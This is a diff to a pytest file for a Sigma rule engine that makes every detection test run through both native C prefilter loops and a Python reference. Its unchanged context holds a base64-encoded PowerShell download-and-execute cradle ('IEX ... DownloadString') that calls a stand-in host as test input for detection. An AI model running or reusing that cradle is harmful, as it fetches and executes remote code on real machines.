@@ -11,6 +11,7 @@ import pytest
 import yaml
 
 from secustream.analyzer.sigma import SigmaEngine, SigmaRuleSet
+from secustream.analyzer.sigma import engine as sigma_engine
 from secustream.analyzer.sigma.loader import build_ruleset
 from secustream.events import SecurityEvent
 from secustream.state import MemoryState
@@ -19,6 +20,16 @@ from secustream.verdict import RiskLevel
 WIN_PROC = {"product": "windows", "category": "process_creation"}
 PS_B64 = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x/a')".encode("utf-16le")).decode()
 PS_UTF16BE = base64.b64encode("whoami".encode("utf-16be")).decode()
+
+
+@pytest.fixture(params=["native", "python"], autouse=True)
+def prefilter_loops(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Every case twice: through the prefilter's C loops (where built) and through their Python reference."""
+    if request.param == "python":
+        monkeypatch.setattr(sigma_engine, "scan_values", sigma_engine.scan_values_python)
+        monkeypatch.setattr(sigma_engine, "pick_rules", sigma_engine.pick_rules_python)
+    elif not sigma_engine.NATIVE_PREFILTER:
+        pytest.skip("the C loops are not built here")
 
 
 def process(cmd: str = "", image: str = "C:\\Windows\\System32\\cmd.exe", **unmapped: Any) -> dict[str, Any]:
